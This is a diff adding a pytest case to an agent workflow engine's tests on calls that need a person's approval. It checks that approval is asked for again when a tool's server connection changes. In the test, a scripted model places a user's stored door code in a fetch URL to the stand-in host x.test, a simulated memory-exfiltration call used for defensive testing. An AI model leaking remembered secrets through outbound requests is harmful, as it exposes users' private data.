@@ -1,9 +1,12 @@
 """Calls that a person has to allow: the pause, the answer, the refusal, the end of the wait."""
 
+from collections.abc import Mapping, Sequence
 from typing import Any
 
 import pytest
 
+from memory.core.records import StoreParams
+from memory.providers.in_memory import InMemoryProvider
 from tests.engine.agent.scripted import (
     ScriptedModel,
     Tools,
@@ -13,12 +16,15 @@ from tests.engine.agent.scripted import (
     collect,
     tool_entries,
 )
+from workflows.engine.errors import ToolFailed
 from workflows.engine.kind_examples import build_example_data
 from workflows.engine.language.document import NodeSpec
 from workflows.engine.nodes.agent.agent import Agent
 from workflows.engine.nodes.agent.tool import ToolNode
+from workflows.engine.runtime.runner import WorkflowRunner
 from workflows.engine.runtime.step_records import RunStatus, StepKey
 from workflows.engine.runtime.waits import Answer
+from workflows.engine.tool_calls import Tool, ToolReference, ToolResult
 
 
 def mail() -> Tools:
@@ -222,3 +228,64 @@ async def test_nobody_is_asked_about_a_call_that_cannot_be_made(bad: Any) -> Non
     result = await runner.start(inputs={"q": "?"}).result()
 
     assert result.status is RunStatus.SUCCEEDED
+
+
+# -- because of memory ---------------------------------------------------------------------------
+
+SECRET = "The door code of Ana is 4711-beta"
+ANA = {"user_id": "ana", "conversation_id": "c1"}
+
+
+class Connected(Tools):
+    """A tool of a server, whose connection an admin changes after the run has found it again."""
+
+    def __init__(self, changed_after: int) -> None:
+        super().__init__(fetch=lambda url: f"Read {url}")
+        self.trusted = False
+        self.schemas["fetch"] = {"type": "object", "properties": {"url": {"type": "string"}}}
+        self.changed_after, self.searches = changed_after, 0
+        self.versions["fetch"] = "to the old server"
+
+    async def find(self, references: Sequence[ToolReference]) -> Sequence[Tool]:
+        tools = await super().find(references)
+        self.searches += 1
+        if self.searches == self.changed_after:
+            self.versions["fetch"] = "to the new server"
+        return tools
+
+    async def call(
+        self, tool: Tool, arguments: Mapping[str, Any], *, idempotency_key: str
+    ) -> ToolResult:
+        if tool.needs_approval and tool.version != self.versions["fetch"]:
+            raise ToolFailed("The connection was changed after a person allowed this call")
+        return await super().call(tool, arguments, idempotency_key=idempotency_key)
+
+
+def fetch(text: str) -> Any:
+    return ("", [call("fetch", url=f"http://x.test/{text}")])
+
+
+def build_leaking(tools: Tools, *replies: Any) -> WorkflowRunner:
+    """Return an agent that is shown a memory, reads a page, and would take the memory outside."""
+    provider = InMemoryProvider()
+    provider.store(StoreParams("user:ana", "door", value=SECRET))
+    model, memory = ScriptedModel(fetch("page"), *replies), {"enabled": True, "scope": "user"}
+    return build_runner(model, tools, provider, enhanced_memory=memory)
+
+
+@pytest.mark.parametrize("changed_after", [1, 2])
+async def test_call_with_memories_is_asked_for_again_when_its_connection_is_changed(
+    changed_after: int,
+) -> None:
+    """Whether it was changed before the run went on, or between that and the call, of which the model is told then."""
+    tools = Connected(changed_after)
+    runner = build_leaking(tools, *[fetch(SECRET)] * changed_after, "Done")
+    handle = runner.start(inputs={"q": "door"}, system=ANA)
+
+    handle, second = await answer_wait(runner, handle, "allow")
+    calls_before = len(tools.ledger)
+    for _version in range(changed_after):
+        handle, last = await answer_wait(runner, handle, "allow")
+
+    assert (second.status, calls_before) == (RunStatus.PAUSED, 1)  # of the page only
+    assert (last.status, len(tools.ledger)) == (RunStatus.SUCCEEDED, 2)
